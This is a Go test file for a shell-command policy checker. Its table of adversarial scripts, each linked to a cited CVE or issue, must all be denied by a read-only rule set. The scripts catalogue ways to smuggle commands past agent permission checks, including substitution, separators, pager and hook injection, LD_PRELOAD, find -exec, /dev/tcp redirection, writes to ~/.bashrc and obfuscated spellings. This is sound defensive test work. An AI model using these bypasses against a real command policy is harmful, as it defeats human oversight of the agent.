package policy

import (
	"strings"
	"testing"
)

func compile(t testing.TB, rules CommandRules) *CommandPolicy {
	t.Helper()
	p, err := rules.Compile()
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func bundled(t testing.TB, name, shell string) *CommandPolicy {
	t.Helper()
	rules, ok := Bundled(name)
	if !ok {
		t.Fatalf("no set %q", name)
	}
	rules.Shell = shell
	return compile(t, rules)
}

// onlyReads is what the rows of adversarial.md allow.
func onlyReads(t testing.TB, shell string) *CommandPolicy {
	t.Helper()
	return compile(t, CommandRules{Shell: shell, Rules: []CommandRule{{
		Name: "reads", Commands: strings.Fields("ls cat echo git find rg sed sort"), Decision: Allow,
	}}})
}

// Each row of the "Policy" table of adversarial.md, with its source, and the
// lessons below it. All are denied, in every shell.
var adversarial = []struct{ row, source, scripts string }{
	{"P1", "CVE-2025-54131", "echo $(id)\x00echo `id`\x00echo \"$(id)\"\x00cat <<EOF\n`id`\nEOF\n\x00echo ${x:-$(id)}\x00echo $((1+$(id)))"},
	{"P2", "CVE-2026-110206, 30305, 30314", "$(echo touch /tmp/x)\x00`echo id`\x00\"$(echo id)\"\x00$x\x00${x}id\x00$@"},
	{"P3", "CVE-2026-30313, agno#7065", "ls\nid\x00ls & id\x00ls\rid\x00ls \r\n id\x00ls; id\x00ls && id\x00ls || id\x00ls | id\x00ls |& id\x00! id\x00(id)\x00{ id; }"},
	{"P4", "zoo-code#483", "cat <(id)\x00cat <<EOF\n$(id)\nEOF\n\x00cat <<-EOF\n\t$(id)\n\tEOF\n\x00cat <<< \"$(id)\"\x00cat > >(id)"},
	{"P5", "CDX", "A=1 id\x00env id\x00env A=1 id\x00command id\x00xargs id\x00timeout 5 id\x00nohup id\x00nice -n 5 id\x00setsid id\x00stdbuf -oL id\x00exec id\x00sudo ls\x00time id\x00busybox id\x00env -S 'id'\x00env -u X id\x00PATH=/tmp ls\x00LD_PRELOAD=/tmp/x.so ls\x00GIT_PAGER=id git log\x00PAGER=id git log\x00env PAGER=id git log"},
	{"P6", "CDX", `find . -exec id \;` + "\x00" + `find . -execdir id \;` + "\x00" + `find . -ok id \;` + "\x00find . -delete\x00find . -fprintf /tmp/x %p\x00find . -fls /tmp/x\x00find . -fprint x\x00" + `find . -exec sh -c id \;` + "\x00" + `find . -exec ls \; -exec id {} +` + "\x00find . $x\x00find . \"$x\"\x00find *"},
	{"P7", "CDX, CVE-2026-26268", "git -c core.pager=id log\x00git log --output=/tmp/x\x00git log --outp=/tmp/x\x00git diff --ext-diff\x00git diff --ext\x00git commit -m x\x00git -c alias.x='!id' x\x00git --exec-path=/tmp log\x00git --git-dir=/tmp/x log\x00git -p log\x00git grep -Oid x\x00git grep --open-files-in-pager=id x\x00git rebase -x id\x00git bisect run id\x00git x\x00git $x\x00git log $x\x00git log \"$x\"\x00git config core.pager id\x00git -C . -c a.b=c log"},
	{"P8", "CDX", "rg --pre id x\x00rg --pre=id x\x00rg --hostname-bin id x\x00rg --hostname-bin=id x\x00rg -z x\x00rg --search-zip x\x00rg -nz x\x00rg $x"},
	{"P9", "CVE-2025-64755, 66032", "sed s/x/id/e f\x00sed '1e id' f\x00sed -n 'w /tmp/x' f\x00sed 's/a/b/w /tmp/x' f\x00sed -i s/a/b/ f\x00sed -ni p f\x00sed --in-pl=x p f\x00sed -f x f\x00sed \"$x\" f\x00sort --compress-program=id f\x00sort --compress-program id f\x00sort --comp=id f\x00sort -o x f\x00sort -ro x f\x00sort -rox f\x00sort --outp=x f\x00sort f -o x\x00sort -T /tmp f\x00sort $x"},
	{"P11", "CVE-2025-66032", "i\\d\x00$'\\x69d'\x00{id,}\x00id$IFS-u\x00'i'\"d\"\x00$'id'\x00i''d\x00\"i\"d\x00i\\\nd\x00cat$IFS/etc/passwd\x00ls;i\\\nd\x00l{s,d}\x00~/ls\x00l?\x00*"},
	{"P12", "CVE-2026-22708", "ls(){ id;};ls\x00ls(){ cat x; }\x00alias ls=id\x00alias ls=id; ls\x00export PATH=/tmp\x00export PAGER=id; git log\x00export X=1; ls\x00eval id\x00eval 'i''d'\x00eval $x\x00. ./x\x00source x\x00trap id EXIT\x00trap 'id' 0\x00readonly PATH=/x\x00declare -x PATH=/x\x00local PATH=/x\x00set -a; ls\x00hash -p /tmp/x ls; ls\x00enable -f x ls; ls\x00unset PATH; ls\x00PATH=/tmp; ls\x00read PATH; ls\x00for PATH in /tmp; do ls; done\x00: ${PATH:=/tmp}; ls\x00printf -v PATH /tmp; ls\x00builtin eval id\x00command eval id\x00jobs -x id\x00compgen -C id\x00false && cat2(){ ls; }; cat2"},
	{"P13", "Roo#11095", "echo x > ~/.bashrc\x00echo x >> f\x00echo x >| f\x00echo x &> f\x00echo x >& f\x00ls 2> f\x00ls 1<> f\x00> f\x00exec > f\x00{ ls; } > f\x00(ls) > f\x00for x in a; do ls; done > f\x00echo x > $x\x00echo x > /dev/tcp/1.2.3.4/80\x00cat < /dev/tcp/1.2.3.4/80\x00echo x >&$x\x00ls 3>f"},
	{"P15", "Ona", "./ls\x00/w/ls\x00/bin/ls\x00../ls\x00PATH=.:$PATH ls\x00~/bin/ls\x00env ./ls\x00command ./ls"},

	{"S2", "CVE-2026-22708", "BASH_ENV=x ls\x00ENV=x ls\x00IFS=x ls\x00IFS=x; ls\x00GIT_DIR=x git log\x00GIT_SSH_COMMAND=id git log\x00LD_AUDIT=x ls\x00RIPGREP_CONFIG_PATH=x rg y\x00X=1 ls"},
	{"limits", "Adversa 50-subcommand", strings.Repeat("ls;", 60) + "id\x00" + strings.Repeat("(", 600) + "\x00ls & " + strings.Repeat("a", 200_000) + "\x00" + strings.Repeat("env ", 50) + "ls\x00" + strings.Repeat("sh -c '", 3) + "\x00" + strings.Repeat("$(", 200) + "ls" + strings.Repeat(")", 200)},
	{"separators", "gemini-cli#11510", "ls && id\x00ls || id\x00ls; id\x00ls & id\x00ls > f\x00ls\nid\x00ls | id\x00ls;;id\x00ls &&\nid\x00ls |\n id"},
	{"argument-grammars", "CVE-2025-54795, 58764", "echo \"\\\\\"; id; echo \"\\\\\"\x00echo \\\"; id; echo \\\"\x00echo 'a\\'; id; echo 'b'\x00rg \"a\\\\\"; id; rg \"b\"\x00rg x \\\"; id \\\"\x00rg x --pre=id\x00rg x -- y; id\x00echo -e x | id"},
	{"hooks", "CVE-2026-26268", "git commit -m x\x00git checkout x\x00git merge x\x00git rebase x\x00git am x\x00git push\x00git config core.hooksPath x\x00git -c core.hooksPath=x log\x00echo x > .git/hooks/pre-commit\x00git init --template=x"},
	{"parse-failure", "gemini-cli#25935", "ls '\x00ls \"\x00ls $(\x00ls (\x00if ls\x00ls <<EOF\x00ls ;;\x00ls `\x00}\x00ls & & id\x00cat <<<"},
	{"expansions", "GHSA-g8r9-g2v8-jv6f", "echo ${x@P}\x00echo ${!x}\x00echo \"${x@P}\"\x00x='$(id)'; echo ${x@P}\x00echo ${x@A}"},
	{"quoted-paths", "CVE-2026-35020, 35021, 35022", "cat \"$(id)/x\"\x00ls \"`id`\""},
	{"control", "CVE-2026-30313", "ls\vid\x00ls\fid\x00ls \x1b[2J\x00ls \u202eid\x00ls \x7f\x00ls \xff\x00ls \u0085id\x00ls\b\x00ls \u2028id"},
	{"comment-continuation", "mvdan.cc/sh v3.14.1 reads on", "ls # x \\\nid\x00ls #\\\nid\x00(ls # \\\nid\n)\x00echo `ls # x \\\nid`"},
	{"heredoc-continuation", "shells join lines before they look for the end", "cat <<EOF\nEO\\\nF\nid\nEOF\n\x00cat <<-EOF\n\tEO\\\nF\nid\n\tEOF\n"},
	{"dialects", "read differently by dash, busybox and bash", "echo $'\\'' ; id ; echo '\x00echo $'\\'' ; [[ a && id ]]; echo 'x'\x00((id)||(ls))\x00[[ a && id ]]\x00ls &>/dev/null id\x00ls |& id"},
	{"subscripts", "bash evaluates a subscript wherever it names a variable", "echo $((a[$(id)]))\x00x='a[$(id)]'; echo $((x))\x00test -v 'a[$(id)]'\x00[ -v 'a[$(id)]' ]\x00x='-v a[$(id)]'; [ $x ]\x00read 'a[$(id)]' < f\x00unset 'a[$(id)]'\x00printf -v 'a[$(id)]' x\x00let 'a[$(id)]=1'\x00export 'a[$(id)]=1'\x00x='a[$(id)]'; echo $(($x))\x00a[$(id)]=1\x00declare -i n='a[$(id)]'\x00echo ${a[$(id)]}\x00x=a; [[ 'a[$(id)]' -eq 0 ]]\x00getopts x 'a[$(id)]'\x00x='a[`id`]'; y=x; echo $((y))\x00[ -z $x ]\x00wait -p 'a[$(id)]'"},
	{"quotes-in-expansions", "mvdan.cc/sh v3.14.1 takes quotes in \"${x:-'…'}\" for quotes", "echo \"${x:-'$(id)'}\"\x00cat <<E\n${x:-'$(id)'}\nE\n\x00echo \"${x#'$(id)'}\"\x00echo \"${x:-'}\"; id; echo \"'}\"\x00echo \"${x:-\"$(id)\"}\"\x00echo \"${x/a/'$(id)'}\"\x00echo \"$(( '$(id)' ))\""},
	{"backquotes", "shells end them at the next backquote", "echo `echo cat <<'E'\n[[ `id` ]]\nE\n`\x00echo `echo \\`id\\``\x00echo `echo \\$(id)`\x00echo `echo '`id`'`"},
	{"process-substitution", "bash and busybox see it in ${x:-<(id)}", "echo ${x:-<(id)}\x00cat ${x:->(id)}\x00cat <(id) >(id)"},
	{"find-end", "a word that ends -exec", `find . -exec ls "$x" -exec id \;` + "\x00" + `find . -exec ls $x \;` + "\x00for HOME in -exec; do find ~ id ';'; done"},
	{"hidden-home", "a variable that a word relies on", "HOME=-exec; find ~ id ';'\x00read HOME; ls ~"},
}

func TestAdversarial(t *testing.T) {
	for _, row := range adversarial {
		t.Run(row.row, func(t *testing.T) {
			for _, script := range strings.Split(row.scripts, "\x00") {
				for _, shell := range []string{ShellPOSIX, ShellBash} {
					if row.row == "dialects" && shell == ShellBash {
						continue // bash reads it one way
					}
					v := onlyReads(t, shell).Judge(script, "")
					if v.Decision != Deny {
						t.Errorf("%s, %s: %q is %s: %s", row.source, shell, script, v.Decision, v.Reason)
					}
					checkVerdict(t, script, v)
				}
			}
		})
	}
	t.Run("writable-root", func(t *testing.T) { // CVE-2025-59532: no rule covers where the script writes
		p := compile(t, CommandRules{Writes: []string{"**"}, Rules: []CommandRule{{Name: "reads", Commands: []string{"ls", "echo", "cd"}, Decision: Allow}}})
		for _, script := range strings.Split("cd / && echo x > f\x00cd /etc; echo x > f\x00cd ..; echo x > f\x00cd \"$x\" && echo x > f\x00(cd /tmp; echo x > f)\x00PWD=/; echo x > f\x00echo x > $PWD/f\x00pushd /; echo x > f", "\x00") {
			if v := p.Judge(script, "/work"); v.Decision != Deny {
				t.Errorf("%q is %s: %s", script, v.Decision, v.Reason)
			}
		}
		if v := p.Judge("cd sub && echo x > f", "/work"); v.Decision != Allow {
			t.Error(v.Reason)
		}
	})
	t.Run("NUL", func(t *testing.T) { // which separates the rows above
		if v := onlyReads(t, ShellBash).Judge("ls\x00id", ""); v.Decision != Deny {
			t.Error(v.Decision)
		}
	})
}

// checkVerdict checks what holds for every verdict.
func checkVerdict(t testing.TB, script string, v Verdict) {
	t.Helper()
	if v.Reason == "" || strings.ContainsAny(v.Reason, "\n\r\x1b") {
		t.Errorf("%q: reason %q", script, v.Reason)
	}
	for _, c := range append(v.Commands, CommandVerdict{Span: v.Span}) {
		if s := c.Span; s.Start < 0 || s.End < s.Start || s.End > len(script) {
			t.Errorf("%q: span %+v of %q", script, s, c.Reason)
		}
	}
}
